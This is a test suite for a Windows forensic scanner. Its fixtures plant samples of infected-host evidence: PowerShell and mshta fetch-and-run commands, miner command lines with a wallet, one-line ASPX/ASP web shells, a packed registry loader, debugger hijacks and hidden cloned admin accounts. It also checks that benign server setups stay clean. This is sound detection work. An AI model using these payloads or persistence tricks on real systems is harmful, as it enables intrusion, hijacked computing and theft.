/** Windows evidence as folders: what is told of infected hosts, and that lived-in servers are left in peace. */
import { describe, expect, test } from 'bun:test';
import { deflateRawSync } from 'node:zlib';
import { hiveOf } from '../../src/formats/registry/hive.fixture.ts';
import { linkFile } from '../../src/formats/shell-link/shell-link.fixture.ts';
import type { ScanResult } from '../../src/model/result.ts';
import {
  type HostSpec,
  plantWindows,
  scanSpec,
  scanWindowsFolder,
  ticks,
  treeOf,
  usualAccounts,
  usualGroups,
  usualSoftware,
  usualSystem,
} from './windows-host.fixture.ts';

const wallet =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const services = 'ControlSet001\\Services';
const run = 'Microsoft\\Windows\\CurrentVersion\\Run';
const nt = 'Microsoft\\Windows NT\\CurrentVersion';
const pe = (size = 4096): Uint8Array =>
  Uint8Array.from(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(size)]));

/** Mechanism and reasons of what is suspicious or malicious. */
const accused = (result: ScanResult): readonly string[] =>
  result.persistence
    .filter(({ judgement }) => judgement === 'suspicious' || judgement === 'malicious')
    .map(
      ({ mechanism, judgement, reasons }) =>
        `${judgement} ${mechanism}: ${reasons
          .map(({ id }) => id)
          .sort()
          .join(' ')}`,
    )
    .sort();

describe('an infected host', () => {
  const infected: Readonly<Record<string, { readonly spec: HostSpec; readonly found: readonly string[] }>> = {
    'a miner in a Run key, with its pool and its wallet': {
      spec: {
        software: {
          [run]: {
            winlogui: `C:\\Windows\\System32\\winlogui.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet} -p x`,
          },
        },
      },
      found: ['malicious run-key: miner-command'],
    },
    'an encoded command of a user that fetches and runs, in a value whose name begins with NUL': {
      spec: {
        user: {
          'Software\\Microsoft\\Windows\\CurrentVersion\\Run': {
            '\0x': `powershell -w hidden -enc ${utf16('IEX (irm http://192.0.2.7/a.ps1)')}`,
          },
        },
      },
      found: ['malicious run-key: encoded-command fetch-and-run hidden-from-listing hidden-window'],
    },
    'a service of svchost whose library lies where everybody may write, guarded by a failure command': {
      spec: {
        system: {
          [`${services}\\RemoteUPnPService`]: {
            Type: 32,
            Start: 2,
            ImagePath: '%SystemRoot%\\system32\\svchost.exe -k netsvcs',
            FailureCommand: 'C:\\Users\\Public\\guard.exe',
          },
          [`${services}\\RemoteUPnPService\\Parameters`]: { ServiceDll: 'C:\\Windows\\Temp\\upnp.dll' },
        },
      },
      found: [
        'malicious windows-service: family-mark temporary-path',
        'malicious windows-service: family-mark temporary-path',
      ],
    },
    'a program of the system in a folder of fonts, started as a service that hides itself': {
      spec: {
        system: {
          [`${services}\\serivces`]: { Type: 16, Start: 2, ImagePath: 'C:\\Windows\\Fonts\\svchost.exe' },
          [`${services}\\serivces\\Security`]: {
            Security: Uint8Array.from([
              // Revision, control with DACL, DACL at 20: one ACE that denies Administrators all but synchronising.
              ...[1, 0, 4, 128, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 20, 0, 0, 0],
              ...[2, 0, 32, 0, 1, 0, 0, 0],
              ...[1, 0, 24, 0, 0xff, 1, 15, 0, 1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0],
            ]),
          },
        },
      },
      found: ['malicious windows-service: hidden-from-listing system-name-elsewhere windows-data-folder'],
    },
    'a cloned account with a dollar sign in the administrators': {
      spec: {
        users: [
          ...usualAccounts,
          {
            rid: 1004,
            name: 'admin$',
            cloneOf: 500,
            written: ticks('2026-02-28T20:00:00Z'),
            lastLogon: ticks('2026-02-28T20:10:00Z'),
          },
        ],
        groups: [{ rid: 544, name: 'Administrators', members: [500, 1001, 1004] }],
      },
      found: ['malicious windows-account: administrator cloned-account dollar-account fresh-account'],
    },
    'an account that only one part of the database has, kept off the logon screen': {
      spec: {
        users: [...usualAccounts, { rid: 1009, name: 'support', named: false }],
        groups: [{ rid: 544, name: 'Administrators', members: [500, 1009] }],
        software: { [`${nt}\\Winlogon\\SpecialAccounts\\UserList`]: { support: 0 } },
      },
      found: ['malicious windows-account: account-in-one-place administrator hidden-at-logon'],
    },
    'a scanner that is blind on a whole drive, and a hosts file that blinds it further': {
      spec: {
        software: {
          'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'C:\\': 0 },
          'Microsoft\\Windows Defender\\Exclusions\\Processes': { 'powershell.exe': 0 },
        },
        files: {
          'Windows/System32/drivers/etc/hosts':
            '0.0.0.0 www.360.cn\n0.0.0.0 update.360safe.com\n0.0.0.0 xmr.pool.example\n',
        },
      },
      found: [
        'suspicious defender-exclusion: excludes-everything',
        'suspicious defender-exclusion: excludes-everything',
      ],
    },
    'the marks that DTLMiner leaves': {
      spec: {
        system: {
          [`${services}\\PortProxy\\v4tov4\\tcp`]: { '*/65531': '1.1.1.1/53' },
          [`${services}\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules`]: {
            '{1}': 'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=65529|Name=SDNSd|',
          },
        },
      },
      found: ['malicious port-proxy: known-marker', 'malicious windows-firewall-rule: known-marker'],
    },
    'a debugger that keeps Task Manager away, and one that opens a shell before logon': {
      spec: {
        software: {
          [`${nt}\\Image File Execution Options\\taskmgr.exe`]: { Debugger: 'C:\\ProgramData\\svchost.exe' },
          [`${nt}\\Image File Execution Options\\sethc.exe`]: { Debugger: 'C:\\Windows\\System32\\cmd.exe' },
        },
      },
      found: [
        'malicious image-hijack: changed-default locks-out loose-program system-name-elsewhere',
        'malicious image-hijack: changed-default opens-access',
      ],
    },
    'a second program behind Userinit, and a logon script that fetches': {
      spec: {
        software: {
          [`${nt}\\Winlogon`]: {
            Shell: 'explorer.exe',
            Userinit: 'C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\u.exe',
          },
        },
        user: { Environment: { UserInitMprLogonScript: 'mshta http://192.0.2.7/x.hta' } },
      },
      found: ['malicious logon-script: fetch-and-run', 'malicious winlogon: changed-default temporary-path'],
    },
    'a script in the Startup folder, and one that it runs': {
      spec: {
        files: {
          'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/update.bat':
            '@echo off\r\ncall C:\\ProgramData\\Tools\\go.ps1\r\n',
          'ProgramData/Tools/go.ps1': `iwr http://192.0.2.9/m.exe -OutFile C:\\ProgramData\\Tools\\m.exe\r\nStart-Process C:\\ProgramData\\Tools\\m.exe -ArgumentList '-o pool.example.com:443 -u ${wallet} -k --tls'`,
        },
      },
      found: ['malicious startup-folder: fetch-and-run miner-command'],
    },
    'a link in the Startup folder that starts what it fetches': {
      spec: {
        files: {
          'Users/Administrator/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Adobe.lnk':
            linkFile({
              localPath: 'C:\\Windows\\System32\\mshta.exe',
              arguments: 'http://192.0.2.8/a.hta',
            }),
        },
      },
      found: ['malicious startup-folder: fetch-and-run'],
    },
    'a web shell below the web root': {
      spec: {
        files: {
          'inetpub/wwwroot/upload/wanlin.aspx':
            '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
        },
      },
      found: ['malicious windows-web-page: web-shell'],
    },
    'a subscription of WMI with a command': {
      spec: {
        files: {
          'Windows/System32/wbem/Repository/OBJECTS.DATA': Buffer.concat([
            Buffer.alloc(5000),
            Buffer.from(
              '\0CommandLineEventConsumer\0\0powershell -nop -w hidden -e ' +
                utf16("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.5/w')") +
                '\0\0fuckyoumm2_consumer\0',
              'latin1',
            ),
            Buffer.alloc(3000),
          ]),
        },
      },
      found: ['malicious wmi-subscription: encoded-command fetch-and-run hidden-window'],
    },
    'a class of a user before that of the system, from a temporary folder': {
      spec: {
        classes: {
          'CLSID\\{00000000-0000-4000-8000-000000000001}\\InprocServer32': {
            '': 'C:\\Users\\Administrator\\AppData\\Local\\Temp\\a.dll',
          },
          'Local Settings': { x: 1 },
        },
      },
      found: ['suspicious com-hijack: shadows-package temporary-path'],
    },
    'packed code in the registry that a service runs': {
      spec: {
        system: {
          [`${services}\\Updater`]: {
            Type: 16,
            Start: 2,
            ImagePath: `%COMSPEC% /b /c start /b powershell -nop -c "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflateRawSync('iex (gp HKLM:\\Software\\x).y').toString('base64')}'),0)),[Text.Encoding]::ASCII)).ReadToEnd()"`,
          },
        },
      },
      found: ['malicious windows-service: decode-and-run hidden-window runs-stored-code'],
    },
  };

  for (const [name, { spec, found }] of Object.entries(infected)) {
    test(name, async () => {
      const result = await scanSpec(spec);
      expect(accused(result)).toEqual(found);
      expect(result.verdict).toBe('suspicious');
      expect(result.state).toBe('traces');
    });
  }
});

describe('a lived-in server', () => {
  const honest: Readonly<Record<string, HostSpec>> = {
    'as it stands': {},
    'with drivers of tools in temporary folders, and a service of a maker with a failure command': {
      system: {
        [`${services}\\GPU-Z`]: {
          Type: 1,
          Start: 3,
          ImagePath: '\\??\\C:\\Users\\ADMINI~1\\AppData\\Local\\Temp\\GPU-Z.sys',
        },
        [`${services}\\WinRing0_1_2_0`]: {
          Type: 1,
          Start: 3,
          ImagePath: '\\??\\C:\\Program Files\\OpenHardwareMonitor\\OpenHardwareMonitorLib.sys',
        },
        [`${services}\\NVDisplay`]: {
          Type: 16,
          Start: 2,
          ImagePath:
            '"C:\\Program Files\\NVIDIA Corporation\\Display.NvContainer\\NVDisplay.Container.exe" -s',
          FailureCommand: 'cmd.exe /C C:\\Windows\\NvContainerRecovery.bat',
        },
      },
    },
    'with an encoded command of its administrator in a Run key and in a script': {
      software: {
        [run]: {
          Report: `powershell.exe -NoProfile -EncodedCommand ${utf16('Get-EventLog -LogName System -EntryType Error -Newest 50 | Export-Csv D:\\reports\\errors.csv')}`,
        },
      },
      files: {
        'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/drives.cmd':
          'net use Z: \\\\fileserver\\share /persistent:yes\r\nstart "" "C:\\Program Files\\Ops\\tray.exe"\r\n',
      },
    },
    'with a link of a maker in the Startup folder, and a file that is no link': {
      files: {
        'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/Tray.lnk': linkFile({
          localPath: 'C:\\Program Files\\Vendor\\tray.exe',
          arguments: '/background',
        }),
        'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/desktop.ini': '[.ShellClassInfo]',
      },
    },
    'with another scanner, and Defender switched off by policy': {
      software: {
        'Policies\\Microsoft\\Windows Defender': { DisableAntiSpyware: 1 },
        'Microsoft\\Windows Defender\\Exclusions\\Paths': { 'D:\\SQLData': 0, 'C:\\ProgramData\\Veeam': 0 },
        'Microsoft\\Windows Defender\\Exclusions\\Extensions': { '.mdf': 0, '.ldf': 0 },
      },
    },
    'with accounts of software kept off the logon screen, and a home group of an older system': {
      users: [
        ...usualAccounts,
        { rid: 1005, name: 'postgres', written: ticks('2021-01-01T00:00:00Z') },
        { rid: 1002, name: 'HomeGroupUser$', written: ticks('2020-06-01T03:00:00Z') },
      ],
      software: { [`${nt}\\Winlogon\\SpecialAccounts\\UserList`]: { postgres: 0 } },
    },
    'with an administrator who came last year, and a profile of one who left': {
      users: [
        ...usualAccounts,
        {
          rid: 1010,
          name: 'wang',
          written: ticks('2025-02-01T00:00:00Z'),
          lastLogon: ticks('2026-02-20T00:00:00Z'),
          logons: 40,
        },
      ],
      groups: [{ rid: 544, name: 'Administrators', members: [500, 1001, 1010] }],
      software: {
        [`${nt}\\ProfileList\\S-1-5-21-1111111111-2222222222-3333333333-1007`]: {
          ProfileImagePath: 'C:\\Users\\zhang',
        },
      },
    },
    'with print monitors, security packages and helpers of makers': {
      system: {
        'ControlSet001\\Control\\Print\\Monitors\\HP Universal Port Monitor': { Driver: 'hpmpm081.dll' },
        'ControlSet001\\Control\\Lsa': {
          'Authentication Packages': ['msv1_0', 'C:\\Program Files\\Okta\\OktaAuth.dll'],
          'Security Packages': ['kerberos'],
          'Notification Packages': ['scecli', 'PassFilt'],
        },
      },
      software: { 'Microsoft\\NetSh': { vpn: 'C:\\Program Files\\VPN\\vpnnetsh.dll' } },
    },
    'with Process Explorer in the place of Task Manager, and a monitor of crashes': {
      software: {
        [`${nt}\\Image File Execution Options\\taskmgr.exe`]: {
          Debugger: '"C:\\Tools\\Sysinternals\\PROCEXP64.EXE"',
        },
        [`${nt}\\SilentProcessExit\\w3wp.exe`]: {
          MonitorProcess: 'C:\\Program Files\\Debugging Tools\\adplus.exe',
        },
      },
    },
    'with a kiosk shell, and a profiler of a monitoring product': {
      software: {
        [`${nt}\\Winlogon`]: {
          Shell: 'C:\\Program Files\\Kiosk\\kiosk.exe',
          Userinit: 'C:\\Windows\\system32\\userinit.exe,',
        },
      },
      system: {
        'ControlSet001\\Control\\Session Manager\\Environment': {
          COR_ENABLE_PROFILING: '1',
          COR_PROFILER: '{36032161-FFC0-4B61-B559-F6C5D41BAE5A}',
          COR_PROFILER_PATH: 'C:\\Program Files\\New Relic\\.NET Agent\\NewRelic.Profiler.dll',
        },
      },
    },
    'with a forward inside its own network, name servers of Google, and a rule that closes file sharing to one program':
      {
        system: {
          [`${services}\\PortProxy\\v4tov4\\tcp`]: { '0.0.0.0/8080': '10.0.0.20/80' },
          [`${services}\\Tcpip\\Parameters\\Interfaces\\{1}`]: { NameServer: '8.8.8.8,8.8.4.4' },
          [`${services}\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules`]: {
            '{2}':
              'v2.30|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|App=C:\\Program Files\\X\\x.exe|Name=X|',
            '{3}': 'v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|Name=RDP|',
          },
        },
      },
    'with pages that ask, start programs and decode, and run nothing that was sent': {
      files: {
        'inetpub/wwwroot/report.aspx':
          '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ var id = Request.QueryString["id"]; var p = new System.Diagnostics.ProcessStartInfo(@"C:\\Tools\\report.exe"); p.UseShellExecute = false; Label1.Text = Server.HtmlEncode(id); }</script>',
        'inetpub/wwwroot/api.ashx':
          '<% var b = Convert.FromBase64String(Request.Form["file"]); File.WriteAllBytes(Path.Combine(root, Guid.NewGuid().ToString()), b); %>',
        'inetpub/wwwroot/old.asp': '<% name = Request.Form("name") : Set rs = conn.Execute("select 1") %>',
      },
    },
    'with the subscriptions that Windows has': {
      files: {
        'Windows/System32/wbem/Repository/OBJECTS.DATA': Buffer.from(
          '\0CommandLineEventConsumer\0\0cscript KernCap.vbs\0\0C:\\\\tools\\\\kernrate\0\0BVTConsumer\0\0NTEventLogEventConsumer\0\0SCM Event Log Consumer\0\0CommandLineEventConsumer\0EventConsumer\0CommandLineTemplate\0string\0ExecutablePath\0ShowWindowCommand\0powershell.exe\0',
          'latin1',
        ),
      },
    },
  };

  for (const [name, spec] of Object.entries(honest)) {
    test(`${name} is clean`, async () => {
      const result = await scanSpec(spec);
      expect(accused(result)).toEqual([]);
      expect(result.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual([]);
      expect(result.verdict).toBe('clean');
    });
  }
});

describe('what is not there', () => {
  test.each(['SYSTEM', 'SOFTWARE', 'SAM', 'NTUSER'] as const)(
    'without %s nothing is clean, and it is told',
    async (name) => {
      const result = await scanSpec({ without: [name] });
      expect(result.verdict).toBe('inconclusive');
      const missing = result.coverage.filter(({ required, checked }) => required && !checked);
      expect(missing).toHaveLength(1);
    },
  );

  test('a hive that is no hive is told as such, and the others are read', async () => {
    const result = await scanSpec({ files: { 'Windows/System32/config/SYSTEM': 'not a hive at all' } });
    expect(result.verdict).toBe('inconclusive');
    expect(result.coverage.find(({ id }) => id === 'windows-system')).toMatchObject({
      checked: false,
      reason: expect.stringContaining('not a registry hive'),
    });
    expect(result.persistence.some(({ mechanism }) => mechanism === 'run-key')).toBe(true);
  });
});

describe('where the drives lie', () => {
  const planted = { software: { [run]: { x: 'mshta http://192.0.2.7/x' } } };

  test.each(['', 'C', 'uploads/auto/C%3A', 'uploads/ntfs/%5C%5C.%5CC%3A', 'host1/2026-03-02T080000/C'])(
    'below %p the host is found',
    async (drive) => {
      const result = await scanSpec({ ...planted, drive });
      expect(result.host).toMatchObject({
        name: 'WEB-07',
        machineId: '11111111-2222-4333-8444-555555555555',
        kernel: '10.0.17763.5458',
        cores: 8,
        architecture: 'AMD64',
        timeZone: 'China Standard Time (UTC+08:00)',
      });
      expect(result.host.os).toBe('Windows Server 2019 Standard 1809');
      expect(accused(result)).toEqual(['malicious run-key: fetch-and-run']);
      expect(result.persistence[0]?.source).toBe('C:\\Windows\\System32\\config\\SOFTWARE');
    },
  );

  test('names have no case, and a second drive beside the first is read', async () => {
    const { path, remove } = plantWindows({ drive: 'C' });
    try {
      const { mkdirSync, renameSync, writeFileSync } = await import('node:fs');
      renameSync(`${path}/C/Windows`, `${path}/C/WINDOWS`);
      renameSync(`${path}/C/WINDOWS/System32/config/SOFTWARE`, `${path}/C/WINDOWS/System32/config/software`);
      mkdirSync(`${path}/D/wwwroot`, { recursive: true });
      writeFileSync(`${path}/D/wwwroot/a.asp`, '<%execute request("x")%>');
      const result = await scanWindowsFolder(path);
      expect(result.host.name).toBe('WEB-07');
      expect(accused(result)).toEqual(['malicious windows-web-page: web-shell']);
    } finally {
      remove();
    }
  });

  test('hives that lie in a folder by themselves are known by what they hold', async () => {
    const { path, remove } = plantWindows(planted);
    const loose = plantWindows({});
    try {
      const { cpSync, mkdirSync, rmSync } = await import('node:fs');
      rmSync(loose.path, { recursive: true });
      mkdirSync(loose.path);
      for (const name of ['SYSTEM', 'SOFTWARE', 'SAM'])
        cpSync(`${path}/Windows/System32/config/${name}`, `${loose.path}/reg_${name}.hiv`);
      cpSync(`${path}/Users/Administrator/NTUSER.DAT`, `${loose.path}/Administrator_NTUSER.DAT`);
      const result = await scanWindowsFolder(loose.path);
      expect(result.host.name).toBe('WEB-07');
      expect(accused(result)).toEqual(['malicious run-key: fetch-and-run']);
      expect(result.coverage.filter(({ required, checked }) => required && !checked)).toEqual([]);
    } finally {
      remove();
      loose.remove();
    }
  });
});

test('a link that is none is told, and nothing is clean then', async () => {
  const result = await scanSpec({
    files: {
      'ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/x.lnk': Uint8Array.from(
        { length: 300 },
        (_, at) => at & 255,
      ),
    },
  });
  expect(
    result.sources.some(
      ({ artifact, status }) => artifact === 'windows.startup-folder' && status === 'error',
    ),
  ).toBe(true);
  expect(result.verdict).toBe('inconclusive');
});

test('a program that holds the words of a miner is told where a service starts it', async () => {
  const words = `\0stratum+tcp://pool.example.com:3333\0${wallet}\0donate.v2.xmrig.com\0\0rx/0\0cpu-max-threads-hint\0`;
  const result = await scanSpec({
    system: {
      ...usualSystem,
      [`${services}\\Helper`]: { Type: 16, Start: 2, ImagePath: 'C:\\Program Files\\Helper\\helper.exe' },
    },
    software: usualSoftware,
    groups: usualGroups,
    files: { 'Program Files/Helper/helper.exe': Buffer.concat([pe(), Buffer.from(words), pe()]) },
  });
  expect(accused(result)).toEqual(['malicious windows-service: mining-content']);
});

describe('files that nothing starts', () => {
  const settings = JSON.stringify({
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true },
    'donate-level': 1,
    pools: [{ url: 'pool.example.com:3333', user: wallet, pass: 'x', keepalive: true, algo: 'rx/0' }],
  });
  const log =
    '[2026-03-01 03:20:11.123]  net      use pool pool.example.com:3333 192.0.2.80\n[2026-03-01 03:20:21.123]  cpu      accepted (1/0) diff 100001 (63 ms)\n[2026-03-01 03:21:11.001]  miner    speed 10s/60s/15m 4012.1 4001.0 n/a H/s max 4100.2 H/s\n';

  test('settings and a log of a miner in the place of its drop are told, with its wallet', async () => {
    const result = await scanSpec({
      files: { 'Users/Public/Libraries/config.json': settings, 'Users/Public/Libraries/xmr.log': log },
    });
    expect(result.findings.map(({ rule }) => rule).sort()).toEqual([
      'file.miner-configuration',
      'file.miner-log',
    ]);
    expect(result.findings.flatMap(({ evidence }) => evidence.map(({ text }) => text)).join(' ')).toContain(
      wallet.slice(0, 8),
    );
    expect(result.findings.map(({ path }) => path)).toContain('C:\\Users\\Public\\Libraries\\config.json');
    expect([result.verdict, result.state]).toEqual(['suspicious', 'traces']);
  });

  test('a program with the words of a miner in a folder of fonts is told, and its time is not taken for a proof', async () => {
    const words = `\0stratum+tcp://pool.example.com:3333\0${wallet}\0rx/0\0`;
    const result = await scanSpec({
      files: { 'Windows/Fonts/a.exe': Buffer.concat([pe(), Buffer.from(words), pe()]) },
    });
    expect(result.findings.map(({ rule, severity }) => `${severity} ${rule}`)).toEqual([
      'high file.miner-program',
    ]);
  });

  test('notes, a list of blocked pools and a signature list are no miner', async () => {
    const list = Array.from({ length: 400 }, (_, at) => `0.0.0.0 pool${at}.example.com`).join('\n');
    const result = await scanSpec({
      files: {
        'Users/Administrator/Documents/notes.txt':
          'Asked the vendor about xmrig.exe: their scanner knows stratum+tcp:// and randomx.\n',
        'ProgramData/Blocklist/pools.txt': list,
        'Users/Administrator/Downloads/setup.exe': pe(60_000),
      },
    });
    expect(result.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual([]);
    expect(result.verdict).toBe('clean');
  });
});

describe('what stands there and accuses nobody', () => {
  test('is told: name servers, a policy of IPsec, a driver with a hole, a scanner that is off', async () => {
    const local = 'Policies\\Microsoft\\Windows\\IPSec\\Policy\\Local';
    const result = await scanSpec({
      system: {
        [`${services}\\Tcpip\\Parameters`]: { NameServer: '203.0.113.53' },
        [`${services}\\Tcpip6\\Parameters\\Interfaces\\{1}`]: { NameServer: '2001:db8::53' },
        [`${services}\\gdrv3`]: {
          Type: 1,
          Start: 3,
          ImagePath: '\\SystemRoot\\System32\\drivers\\gdrv3.sys',
        },
      },
      software: {
        [local]: { ActivePolicy: `SOFTWARE\\${local}\\ipsecPolicy{1}` },
        [`${local}\\ipsecPolicy{1}`]: { ipsecName: 'close445' },
        'Policies\\Microsoft\\Windows Defender': { DisableAntiSpyware: 1 },
      },
    });
    const texts = result.persistence.map(
      ({ mechanism, judgement, text, reasons }) =>
        `${judgement} ${mechanism}: ${text}: ${reasons.map(({ id }) => id).join(' ')}`,
    );
    for (const told of [
      /^benign windows-dns: .*Tcpip\\Parameters: NameServer = 203\.0\.113\.53/,
      /^benign windows-dns: .*Tcpip6.*NameServer = 2001:db8::53/,
      /^benign windows-firewall-rule: .*= close445/,
      /^unusual windows-driver: .*gdrv3.*: vulnerable-driver/,
      /^unusual defender-setting: .*protection-off/,
    ])
      expect(texts.filter((text) => told.test(text))).toHaveLength(1);
    expect(result.verdict).toBe('clean');
  });
});

describe('a key that somebody filled', () => {
  test('with more values than are read is told, and no host is clean for it', async () => {
    const many = Object.fromEntries(
      Array.from({ length: 2_001 }, (_, at) => [`a${at}`, '"C:\\Program Files\\Tools\\tool.exe"']),
    );
    const result = await scanSpec({ software: { [run]: many } });
    const row = result.coverage.find(({ id }) => id === 'persistence');
    expect([row?.checked, row?.reason]).toEqual([
      false,
      'C:\\Windows\\System32\\config\\SOFTWARE: truncated, only 2000 entries were read',
    ]);
    expect(result.verdict).not.toBe('clean');
  });

  test('with classes, forwards, exclusions and components past the bounds has each told', async () => {
    const numbered = <T>(count: number, of: (at: number) => readonly [string, T]): Record<string, T> =>
      Object.fromEntries(Array.from({ length: count }, (_, at) => of(at)));
    const id = (at: number): string => `{00000000-0000-4000-8000-${String(at).padStart(12, '0')}}`;
    const result = await scanSpec({
      classes: numbered(501, (at) => [
        `CLSID\\${id(at)}\\InprocServer32`,
        { '': 'C:\\Program Files\\Tools\\tool.dll' },
      ]),
      software: {
        ...numbered(501, (at) => [
          `Classes\\CLSID\\${id(at)}\\InprocServer32`,
          { '': 'C:\\Windows\\System32\\shell32.dll' },
        ]),
        ...numbered(1_001, (at) => [
          `Microsoft\\Active Setup\\Installed Components\\${id(at)}`,
          { StubPath: '"C:\\Program Files\\Tools\\setup.exe"' },
        ]),
        'Microsoft\\Windows Defender\\Exclusions\\Paths': numbered(2_001, (at) => [`C:\\Data\\${at}`, 0]),
      },
      system: {
        'ControlSet001\\Services\\PortProxy\\v4tov4\\tcp': numbered(2_001, (at) => [
          `0.0.0.0/${at + 1}`,
          `10.0.0.9/${at + 1}`,
        ]),
      },
      files: {
        'Windows/System32/wbem/Repository/OBJECTS.DATA': Array.from(
          { length: 230 },
          (_, at) =>
            `CommandLineEventConsumer\0\0"C:\\Program Files\\Tools\\t${at}.exe" /run\0\0Tool${at}\0\0`,
        ).join(''),
      },
    });
    const cut = result.sources.filter(({ status }) => status === 'truncated').map(({ artifact }) => artifact);
    expect([...new Set(cut)].sort()).toEqual([
      'windows.com-hijack',
      'windows.defender',
      'windows.logon',
      'windows.network',
      'windows.wmi',
    ]);
    expect(result.verdict).not.toBe('clean');
  }, 60_000);
});

describe('a hive that was not closed', () => {
  /** As a system that runs leaves it: the second number of its head lags behind. */
  const open = (hive: Uint8Array): Uint8Array => {
    const bytes = Buffer.from(hive);
    bytes.writeUInt32LE(bytes.readUInt32LE(4) + 1, 4);
    let sum = 0;
    for (let at = 0; at < 508; at += 4) sum ^= bytes.readUInt32LE(at);
    bytes.writeInt32LE(sum, 508);
    return bytes;
  };

  test('and whose logs are not there is told, and its host is not called clean', async () => {
    const result = await scanSpec({
      without: ['SOFTWARE'],
      files: { 'Windows/System32/config/SOFTWARE': open(hiveOf(treeOf({ ...usualSoftware }))) },
    });
    const [row] = result.sources.filter(
      ({ artifact, status }) => artifact === 'windows.registry' && status === 'truncated',
    );
    expect(row).toBeDefined();
    expect(result.coverage.find(({ id }) => id === 'persistence')?.reason).toContain('it was not closed');
    expect(result.verdict).toBe('inconclusive');
  });
});
